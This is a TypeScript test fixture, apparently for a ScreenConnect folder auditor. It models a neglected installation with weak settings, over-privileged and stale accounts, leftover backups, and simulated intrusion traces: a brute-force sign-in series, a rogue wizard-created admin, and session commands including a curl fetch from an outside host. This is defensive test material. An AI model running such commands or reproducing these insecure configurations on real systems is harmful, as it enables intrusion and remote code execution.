import { daysBefore, type FolderSituation, type ScreenConnectFolderState } from './folder-state.ts'
import { hardenedWebConfig } from './hardened-folder.ts'
import type { WebConfigSettings } from './web-config.ts'

const day = 86_400_000
const minute = 60_000
const attacker = '192.0.2.66'

/** A folder as the guidance warns of: old, open, with accounts that nobody knows and the traces of two attacks. */
export function neglectedFolder(situation: FolderSituation): ScreenConnectFolderState {
  const { now, version } = situation
  return {
    webConfig: neglectedWebConfig(situation),
    clientSettings: { AllowGuestInitiatedFileTransfer: 'true', SupportShowUnderControlBanner: 'false' },
    ...neglectedAccounts(now),
    extensions: [
      {
        id: '3f1f7c1e-7f1a-4c0e-9d57-2f9d9f1b7a10',
        name: 'Certificate Signing',
        version: '1.0.10',
        signed: true,
        enabled: true,
      },
      {
        id: '2d558935-686a-4bd0-9991-07539f5fe749',
        name: 'RESTful API Manager',
        version: '1.0',
        signed: true,
        enabled: true,
      },
      { id: 'a4f5d1c2-93a6-4a5e-8b1f-0c7de1b2a3c4', name: 'Helper', version: '1.0', signed: false },
    ],
    strays: ['poc.ashx'],
    ...neglectedTriggers,
    version,
    clientVersion: version,
    ...neglectedTraces(now),
  }
}

function neglectedWebConfig({ proxy }: FolderSituation): WebConfigSettings {
  const empty = { RestrictToIPs: '', BlockIPs: '', MinAuthenticationFactorCount: '0' }
  const webConfig = hardenedWebConfig(proxy)
  return {
    settings: {
      ...webConfig.settings,
      AccessTokenExpireSeconds: '86400',
      AllowPasswordAutoComplete: 'true',
      AllowRemoteSetup: 'true',
      CookieSameSiteMode: 'None',
      DisableAutoPortForwarding: 'false',
      HostClientDeviceFingerprintValidationLevel: 'High',
      InputIdleDisconnectTimeSeconds: '0',
      ShouldRevalidateAccessToken: 'false',
      TrustDeviceExpireDays: '30',
      UsePersistentTicketCookie: 'true',
    },
    locations: {
      'Login.aspx': empty,
      'Host.aspx': { ...empty, BlockIPs: '198.51.100.77', MaxLongestTicketReissueIntervalSeconds: '86400' },
      'Administration.aspx': {
        ...empty,
        RestrictToIPs: '203.0.113.0/24; 192.0.2.128/25, büro.muster.example',
        MaxLongestTicketReissueIntervalSeconds: '86400',
      },
      Services: empty,
      'Services/PageService.ashx': empty,
      'Services/MailService.ashx': empty,
    },
    internalUsers: {
      enabled: 'true',
      minRequiredPasswordLength: '4',
      minRequiredNonAlphanumericCharacters: '0',
      maxInvalidPasswordWindowAttempts: '100',
      passwordAttemptWindow: '1',
      maxInvalidPasswordAbsoluteAttempts: '0',
    },
    otherSources: [{ name: 'Verzeichnis', type: 'Ldap', enabled: true }],
    secrets: true,
  }
}

function neglectedAccounts(now: number): Pick<ScreenConnectFolderState, 'users' | 'roles'> {
  return {
    users: [
      {
        name: 'Administrator',
        roles: ['Control Administrator'],
        created: '2021-06-01T08:00:00',
        lastLogin: daysBefore(now, 3),
        mail: 'info@muster-msp.de',
      },
      {
        name: 'technik',
        roles: ['Alles'],
        factor: 'email',
        created: '2021-06-02T08:00:00',
        lastLogin: daysBefore(now, 1),
        mail: 'technik@muster-msp.de',
      },
      {
        name: 'k.weber',
        roles: ['Control Administrator'],
        factor: 'ms',
        created: '2021-07-01T08:00:00',
        lastLogin: daysBefore(now, 2),
        mail: 'k.weber@muster-msp.de',
      },
      {
        name: 'j.alt',
        roles: ['Alles'],
        created: '2021-08-01T08:00:00',
        lastLogin: daysBefore(now, 400),
        mail: 'j.alt@muster-msp.de',
      },
      { name: 'praktikant', roles: ['Alles'], created: daysBefore(now, 300), mail: 'praktikant@muster-msp.de' },
      {
        name: 'cloudadmin1',
        roles: ['Control Administrator'],
        created: daysBefore(now, 9),
        lastLogin: daysBefore(now, 9),
        mail: 'x@mail.invalid',
        fromWizard: true,
      },
    ],
    roles: [
      {
        name: 'Control Administrator',
        global: ['Administer', 'ManageSharedToolbox', 'BuildAccessInstaller'],
        session: ['JoinSession', 'RunCommandOutsideSession', 'TransferFiles'],
      },
      {
        name: 'Alles',
        global: ['BuildAccessInstaller', 'ManageSharedToolbox'],
        session: [
          'JoinSession',
          'RunCommandOutsideSession',
          'RunSharedToolAsSystemSilently',
          'TransferFiles',
          'SwitchLogonSession',
          'EnableBackstageLogonSession',
          'CreateDelegatedAccessToken',
          'HostSessionWithoutConsent',
        ],
      },
    ],
  }
}

const neglectedTriggers: Pick<ScreenConnectFolderState, 'securityTriggers' | 'sessionTriggers' | 'leftovers'> = {
  securityTriggers: [
    { name: 'Gesperrt', disabled: true, action: 'mail', filter: "Event.OperationResult = 'LockedOut'" },
  ],
  sessionTriggers: [
    { name: 'Update', disabled: false, action: 'command', filter: "Event.EventType = 'Connected'" },
    {
      name: 'Meldung',
      disabled: false,
      action: 'call',
      target: 'sammler.invalid',
      filter: "Event.EventType = 'CreatedSession'",
    },
  ],
  leftovers: [
    'App_Data/web.config.0123456789abcdef0123456789abcdef.20250601_120000.bak',
    'App_Data/web.config.0123456789abcdef0123456789abcdef.20250601_120000.new',
    'web.config.old',
    'App_Data/User.xml.bak',
    'Sicherung.zip',
    'status.aspx',
  ],
}

function neglectedTraces(now: number): Pick<ScreenConnectFolderState, 'signIns' | 'sessionEvents'> {
  return {
    signIns: [
      ...Array.from({ length: 400 }, (_, index) => ({
        at: now - 9 * day + index * minute,
        name: `user${index % 40}`,
        result: index % 4 === 0 ? 2 : 7,
        from: attacker,
      })),
      { at: now - 9 * day + 401 * minute, name: 'technik', result: 1, from: attacker },
      { at: now - 8 * day, name: 'technik', result: 1, from: '45.13.237.190' },
      { at: now - day, name: 'k.weber', result: 1, from: '203.0.113.20' },
    ],
    sessionEvents: [
      { at: now - 7 * day, type: 85, by: 2, data: '1.vbs' },
      { at: now - 7 * day + minute, type: 85, by: 2, data: 'PyTorchFix.ps1' },
      { at: now - 7 * day + 2 * minute, type: 70, by: 2, data: 'curl http://tele-sync.opik.net/map.txt' },
    ],
  }
}
